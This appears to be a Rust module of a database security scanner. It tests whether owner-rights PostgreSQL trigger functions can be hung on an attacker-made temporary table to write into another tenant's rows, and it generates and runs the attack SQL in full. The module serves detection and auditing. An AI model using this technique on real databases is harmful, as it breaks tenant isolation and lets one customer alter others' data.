//! Trigger functions with their owner's rights, hung on a table of the attacker's own: they believe what it says.

use crate::attack::{Hunt, seed::Row, stage::Actor};
use crate::{
    catalog::{Function, Relation},
    finding::{TenantContext, Verb},
    rules,
    session::{SessionError, identifier, literal},
};

/// Hangs each on a temporary table like the one that it is made for, and writes a row of the victim's there.
pub(super) async fn borrowed(hunt: &mut Hunt) -> Result<(), SessionError> {
    if hunt.unbound().is_some() {
        return Ok(());
    }
    for function in borrowable(hunt) {
        let tables: Vec<Relation> = hunt
            .stage
            .catalog
            .triggers
            .iter()
            .filter(|trigger| trigger.function == function.oid)
            .filter_map(|trigger| hunt.stage.catalog.relation(trigger.table))
            .filter(|table| table.is_table())
            .take(3)
            .cloned()
            .collect();
        for table in tables {
            if hunt.has(&function.object()) {
                break;
            }
            hang(hunt, &function, &table).await?;
        }
    }
    Ok(())
}

fn borrowable(hunt: &Hunt) -> Vec<Function> {
    let (catalog, roles) = (&hunt.stage.catalog, hunt.stage.roles_in_play());
    let is_trigger =
        |function: &Function| catalog.types.get(&function.returns).is_some_and(|info| info.name == "trigger");
    catalog
        .functions
        .iter()
        .filter(|function| function.definer && !function.extension && is_trigger(function))
        .filter(|function| {
            roles.iter().any(|role| {
                catalog.has(*role, &function.grants, "EXECUTE")
                    && catalog.uses_schema(*role, &function.schema)
            })
        })
        .cloned()
        .collect()
}

async fn hang(hunt: &mut Hunt, function: &Function, table: &Relation) -> Result<(), SessionError> {
    let victim = hunt.stage.victim.clone();
    let Some(row) = hunt.seeds.row(table.oid, &victim).cloned() else { return Ok(()) };
    let written: Row = row
        .into_iter()
        .filter(|(name, _)| table.column_named(name).is_some_and(|column| !column.generated))
        .collect();
    let Some(first) = written.keys().next().map(|name| identifier(name)) else { return Ok(()) };
    let columns: Vec<String> = table
        .columns
        .iter()
        .filter(|column| written.contains_key(&column.name))
        .map(|column| format!("{} {}", identifier(&column.name), column.type_name))
        .collect();
    let names: Vec<String> = written.keys().map(|name| identifier(name)).collect();
    let values: Vec<String> = written
        .values()
        .map(|value| value.as_ref().map_or_else(|| "null".to_owned(), |value| literal(value)))
        .collect();
    let name = identifier(&table.name);
    let make = [
        format!("create temporary table {name} ({})", columns.join(", ")),
        format!(
            "create trigger nf_own after insert or update or delete on pg_temp.{name} \
             for each row execute function {}()",
            function.quoted()
        ),
    ];
    let writes = [
        format!("insert into pg_temp.{name} ({}) values ({})", names.join(", "), values.join(", ")),
        format!("update pg_temp.{name} set {first} = {first}"),
        format!("delete from pg_temp.{name}"),
    ];
    let object = function.object();
    hunt.count(&object, Verb::Execute, TenantContext::Tenant, "own table");
    let baseline = hunt.baseline.clone();
    for last in 1..=writes.len() {
        let script: Vec<String> = make.iter().chain(&writes[..last]).cloned().collect();
        let outcome = hunt.stage.attempt(Actor::Attacker, &script, Some(&baseline)).await?;
        if outcome.changed.is_empty() {
            continue;
        }
        let evidence = "on a table of the attacker's own it writes among another tenant's rows";
        hunt.add(&rules::ACTS, &object, Verb::Execute, TenantContext::Tenant, &script, evidence, None);
        return Ok(());
    }
    Ok(())
}
